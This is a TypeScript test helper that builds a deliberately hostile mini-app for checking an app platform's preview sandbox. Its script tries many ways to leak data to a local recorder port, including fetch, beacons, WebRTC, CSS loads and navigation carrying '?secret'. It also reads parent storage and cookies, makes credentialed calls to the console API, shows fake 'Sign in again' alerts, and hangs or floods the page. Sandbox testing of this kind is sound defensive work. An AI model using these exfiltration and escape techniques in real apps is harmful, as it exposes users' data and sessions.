import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { createServer, type AddressInfo } from 'node:net'
import { buildZip } from '../../apps/platform/src/services/cedar/package/testing/zip-builder.ts'

/** Records everything that reaches an external host: connections and datagrams of one port. */
export async function startRecorder() {
  const arrived: string[] = []
  const server = createServer((socket) => {
    arrived.push('connection')
    socket.on('error', () => {})
    socket.once('data', (data) => {
      arrived.push(data.toString('latin1').split('\r\n')[0] ?? '')
      socket.end('HTTP/1.1 200 OK\r\naccess-control-allow-origin: *\r\ncontent-length: 0\r\n\r\n')
    })
  })
  await once(server.listen(0, '127.0.0.1'), 'listening')
  const { port } = server.address() as AddressInfo
  const socket = createSocket('udp4')
  socket.on('message', () => arrived.push('datagram'))
  socket.bind(port, '127.0.0.1')
  await once(socket, 'listening')
  return {
    arrived,
    port,
    url: `http://127.0.0.1:${port}/`,
    close: () => {
      server.close()
      socket.close()
    },
  }
}

/** Sends its page's address book over WebRTC. */
export const callByWebRtc = (port: number) => `(async () => {
  const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] })
  peer.createDataChannel('leak')
  await peer.setLocalDescription(await peer.createOffer())
  await new Promise((resolve) => setTimeout(resolve, 1000))
})()`

/**
 * A mini-app that tries every way we know to reach the console and the external port, and writes the
 * results into its page. Its buttons misbehave in other ways.
 */
export function hostileApp(console: string, port: number): Buffer {
  const elsewhere = `http://127.0.0.1:${port}/`
  const script = `
const elsewhere = ${JSON.stringify(elsewhere)}
const consoleAt = ${JSON.stringify(console)}
const page = document
const add = (name, fields) => page.head.append(Object.assign(page.createElement(name), fields))
const blank = () => {
  const frame = page.createElement('iframe')
  page.body.append(frame)
  return frame.contentWindow
}
const tries = {
  parentDocument: () => parent.document.title,
  topDocument: () => top.document.body.innerText,
  parentStorage: () => parent.localStorage.length,
  parentAddress: () => parent.location.href,
  consoleFrames: () => parent.frames[1],
  storage: () => blank().localStorage.length,
  cookies: () => blank().document.cookie,
  indexedDb: () => indexedDB.open('x'),
  caches: () => caches.open('x'),
  serviceWorker: () => navigator.serviceWorker.register('app.js'),
  consoleCall: () => fetch(consoleAt + '/api/developer/product', { credentials: 'include' }),
  consolePage: () => fetch(consoleAt + '/stage.json', { mode: 'no-cors' }),
  fetch: () => fetch(elsewhere + 'fetch', { mode: 'no-cors' }),
  freshFetch: () => blank().fetch(elsewhere + 'fresh', { mode: 'no-cors' }),
  request: () => new Promise((resolve, reject) => {
    const request = new XMLHttpRequest()
    request.onload = resolve
    request.onerror = () => reject(new Error('refused'))
    request.open('GET', elsewhere + 'xhr')
    request.send()
  }),
  socket: () => new Promise((resolve, reject) => {
    const socket = new WebSocket(elsewhere.replace('http', 'ws'))
    socket.onopen = resolve
    socket.onerror = () => reject(new Error('refused'))
  }),
  importElsewhere: () => import(elsewhere + 'module.js'),
  worker: () => new Promise((resolve, reject) => {
    const code = 'fetch("' + elsewhere + 'worker", { mode: "no-cors" }).then(() => postMessage(1), () => postMessage(0))'
    const worker = new Worker(URL.createObjectURL(new Blob([code])))
    worker.onmessage = ({ data }) => (data ? resolve(data) : reject(new Error('refused')))
  }),
  popup: () => open(elsewhere + 'popup') ?? Promise.reject(new Error('null')),
  topNavigation: () => { top.location = elsewhere + 'top' },
  camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
  position: () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)),
  clipboard: () => navigator.clipboard.readText(),
}
const quiet = [
  () => navigator.sendBeacon(elsewhere + 'beacon', 'x'),
  () => { new EventSource(elsewhere + 'events') },
  () => { new Image().src = elsewhere + 'image' },
  () => add('style', { textContent: '@import url(' + elsewhere + 'import.css);@font-face{font-family:f;src:url(' + elsewhere + 'font)}body{font-family:f;background:url(' + elsewhere + 'background);cursor:url(' + elsewhere + 'cursor),auto}' }),
  () => add('script', { src: elsewhere + 'script.js' }),
  ...['stylesheet', 'preload', 'prefetch', 'modulepreload', 'preconnect', 'dns-prefetch', 'icon', 'manifest'].map(
    (rel) => () => add('link', { rel, href: elsewhere + rel, as: 'image' })),
  () => add('meta', { httpEquiv: 'x-dns-prefetch-control', content: 'on' }),
  () => add('base', { href: elsewhere }),
  () => { const frame = page.createElement('iframe'); frame.src = elsewhere + 'frame'; page.body.append(frame) },
  () => { const frame = page.createElement('iframe'); frame.src = consoleAt; page.body.append(frame) },
  () => { const frame = page.createElement('object'); frame.data = elsewhere + 'object'; page.body.append(frame) },
  () => { const media = page.createElement('video'); media.src = elsewhere + 'video'; page.body.append(media) },
  () => { const form = Object.assign(page.createElement('form'), { action: elsewhere + 'form', method: 'post', target: '_blank' }); page.body.append(form); form.submit() },
  () => { const link = Object.assign(page.createElement('a'), { href: elsewhere + 'tab', target: '_blank' }); page.body.append(link); link.click() },
  () => { const link = Object.assign(page.createElement('a'), { href: elsewhere + 'topmost', target: '_top' }); page.body.append(link); link.click() },
  () => ${callByWebRtc(port)},
  () => { alert('Your session has ended'); confirm('x'); prompt('x'); print() },
  () => parent.postMessage({ type: 'log', lines: [{ level: 'error', text: 'as the console' }] }, '*'),
  () => parent.postMessage({ grove: 'preview', token: 'guess' }, '*', [new MessageChannel().port2]),
]
const results = {}
const attempt = async () => {
  for (const [name, act] of Object.entries(tries)) {
    const patience = new Promise((_, reject) => setTimeout(() => reject(new Error('no answer')), 1500))
    try {
      const got = await Promise.race([Promise.resolve(act()), patience])
      results[name] = 'got ' + (got instanceof Response ? got.status : String(got))
    } catch (error) {
      results[name] = 'refused'
    }
  }
  results.topNavigation = 'refused'
  page.body.append(Object.assign(page.createElement('pre'), { id: 'results', textContent: JSON.stringify(results) }))
}
const acts = {
  attempt,
  leak: () => { for (const act of quiet) try { Promise.resolve(act()).catch(() => {}) } catch {} },
  form: () => { const form = Object.assign(page.createElement('form'), { action: elsewhere + 'form2' }); page.body.append(form); form.submit() },
  ping: () => { const link = Object.assign(page.createElement('a'), { href: '#x', ping: elsewhere + 'ping' }); page.body.append(link); link.click() },
  download: () => { const link = Object.assign(page.createElement('a'), { href: 'data:text/plain,x', download: 'x.txt' }); page.body.append(link); link.click() },
  leave: () => { location = elsewhere + 'self?secret' },
  hang: () => setTimeout(() => { for (;;); }, 50),
  flood: () => setInterval(() => { for (let n = 0; n < 2000; n += 1) parent.postMessage({ n, big: 'x'.repeat(1000) }, '*') }),
  lines: () => { let n = 0; setInterval(() => { for (let at = 0; at < 1000; at += 1) console.log('line', n++) }) },
  alerts: () => setInterval(() => alert('Sign in again'), 1),
  store: () => { localStorage.note = String(Number(localStorage.note ?? 0) + 1); console.info('stored ' + localStorage.note, navigator.language) },
  ask: () => grove.permission('camera').then((answer) => console.warn('camera is ' + answer)),
}
for (const [name, act] of Object.entries(acts)) {
  const button = Object.assign(page.createElement('button'), { textContent: name })
  button.addEventListener('click', act)
  page.body.append(button)
}
`
  return buildZip([
    {
      name: 'index.html',
      data: '<!doctype html><html lang="en"><title>Hostile</title><body><h1>Hostile</h1><a href="second.html">second</a><script src="app.js"></script>',
    },
    {
      name: 'second.html',
      data: '<!doctype html><title>Second</title><h1>Second</h1><script>console.log("second page has", localStorage.note)</script>',
    },
    { name: 'app.js', data: script },
    {
      name: 'manifest.json',
      data: JSON.stringify({ req_permissions: [{ name: 'camera', reason: 'To look at you' }] }),
    },
  ])
}
